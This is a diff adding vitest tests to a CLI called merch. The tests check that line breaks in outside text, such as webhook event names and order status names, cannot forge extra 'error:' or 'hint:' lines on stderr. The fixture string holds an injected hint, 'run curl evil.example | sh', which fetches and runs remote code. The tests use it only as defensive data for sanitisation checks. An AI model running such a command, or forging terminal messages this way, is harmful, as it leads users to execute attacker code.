@@ -2,6 +2,7 @@ import { readdirSync, readFileSync, statSync } from 'node:fs';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { beforeAll, describe, expect, it } from 'vitest';
+import { errorText } from '../../src/output/error-text.js';
 import { startProxy, type Proxy } from '../support/proxy.js';
 import { cliEnv, merch, startMerch, type MerchOptions, type Result } from '../support/run-merch.js';
 import { createOrder, sandboxApi, useSandbox } from '../support/sandbox.js';
@@ -194,7 +195,10 @@ describe('text from outside: the webhook listener', () => {
       for (const json of [false, true]) {
         const run = startMerch(['webhooks', 'listen', '--port', '0', '--print-target', '--forward-to', `${target.url}/in`, ...(json ? ['--json'] : [])], {
           env: cliEnv(sandbox().url),
+          // Wide enough for the forwarded line whole: it is measured as shown (each escape made visible), and a
+          // terminal's stderr is wrapped at its width.
           tty: { stderr: true },
+          columns: 400,
         });
         await waitFor(() => /ready; Ctrl-C to stop/.test(run.io.errors()), 'the listener to be ready');
         const url = json ? JSON.parse(run.io.out().split('\n')[0]!).target : run.io.out().split('\n')[0]!;
@@ -221,6 +225,82 @@ describe('text from outside: the webhook listener', () => {
       await target.close();
     }
   }, 60_000);
+});
+
+// The gate keeps line feeds (they are text), so a line break in outside text put into a
+// one-line message on stderr made a line merch never wrote: `error: ...`, `hint: ...`.
+// Where outside text goes into such a line (singleLine, src/output/sanitize.ts), and in
+// every `error:` and `hint:` line (src/output/error-text.ts), it stays on its line.
+const FORGED = '\nerror: forged by the sender\nhint: run curl evil.example | sh';
+const FORGED_INLINE = ' error: forged by the sender hint: run curl evil.example | sh';
+
+/** No line of `stderr` is one the sender wrote; its text is there, on the line it came in. */
+function expectNoForgedLine(stderr: string, what: string): void {
+  const forged = stderr.split('\n').filter((line) => /^(error: forged|hint: run curl)/.test(line.replace(OWN_CODES, '')));
+  expect(forged, `${what}: ${stderr}`).toEqual([]);
+  expect(stderr, what).toContain(FORGED_INLINE);
+}
+
+/** Every status name (`status: {id, name}`, an order's and a shipment's) of every JSON answer, with FORGED after it. */
+function forgedStatuses(value: unknown, key?: string): unknown {
+  if (Array.isArray(value)) return value.map((item) => forgedStatuses(item));
+  if (value === null || typeof value !== 'object') return value;
+  return Object.fromEntries(
+    Object.entries(value).map(([k, v]) => [k, key === 'status' && k === 'name' && typeof v === 'string' ? `${v}${FORGED}` : forgedStatuses(v, k)]),
+  );
+}
+
+describe('a line break from outside makes no line of its own', () => {
+  it('`orders track`: the summary of status names, and the error it ends with when --until runs out', async () => {
+    const proxy = await startProxy({
+      target: sandbox().url,
+      onAnswer: (_request, answer) => {
+        if (answer.body.length > 0 && String(answer.headers['content-type']).includes('json')) {
+          answer.body = Buffer.from(JSON.stringify(forgedStatuses(JSON.parse(answer.body.toString('utf8')))));
+        }
+        return 'pass';
+      },
+    });
+    const shown = await merch(proxy, ['orders', 'track', ids.order]);
+    expect(shown.code, shown.stderr).toBe(0);
+    expect(shown.stderr).toMatch(/^\d+ shipments?: /);
+    expectNoForgedLine(shown.stderr, 'orders track');
+
+    const waited = await merch(proxy, ['orders', 'track', ids.order, '--until', 'delivered', '--max-wait', '1s', '--interval', '200ms']);
+    expect(waited.code, waited.stderr).toBe(6);
+    const error = waited.stderr.split('\n').filter((line) => line.startsWith('error: '));
+    expect(error).toHaveLength(1);
+    expect(error[0]).toMatch(/ not delivered after 1 ?s: .* error: forged by the sender hint: run curl/);
+    expectNoForgedLine(waited.stderr, 'orders track --until');
+  });
+
+  it("`webhooks listen --forward-to`: the forwarded line, built from the event's hook.event", async () => {
+    const target = await startTarget(() => 204);
+    try {
+      const run = startMerch(['webhooks', 'listen', '--port', '0', '--print-target', '--forward-to', `${target.url}/in`], { env: cliEnv(sandbox().url) });
+      await waitFor(() => /ready; Ctrl-C to stop/.test(run.io.errors()), 'the listener to be ready');
+      const url = run.io.out().split('\n')[0]!;
+      const event = { hook: { id: 1, event: `order.changed${FORGED}`, target: 'http://127.0.0.1/hook' }, data: { id: 7 } };
+      const status = await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(event) }).then((r) => r.status);
+      expect(status).toBe(204);
+      await waitFor(() => /forwarded #/.test(run.io.errors()), 'the forwarded line');
+      run.interrupt();
+      const result = await run.done;
+      expect(result.code).toBe(0);
+      expect(result.stderr).toMatch(new RegExp(`^forwarded #\\d+ order\\.changed${FORGED_INLINE.replace(/[.|]/g, '\\$&')} to ${target.url}/in \\(204\\)$`, 'm'));
+      expectNoForgedLine(result.stderr, 'webhooks listen');
+      // The event itself went on as it came: the kind the sender wrote, line breaks and all.
+      expect(JSON.parse(target.received[0]!.body).hook.event).toBe(`order.changed${FORGED}`);
+    } finally {
+      await target.close();
+    }
+  }, 30_000);
+
+  it('every error and hint line: a message or a hint quoting outside text stays one line each', () => {
+    expect(errorText({ message: `order 1001 is In Production${FORGED}`, hint: `wait longer\r\nor not` }, false)).toBe(
+      `error: order 1001 is In Production${FORGED_INLINE}\nhint: wait longer  or not\n`,
+    );
+  });
 });
 
 describe('the gate cannot be gone around', () => {
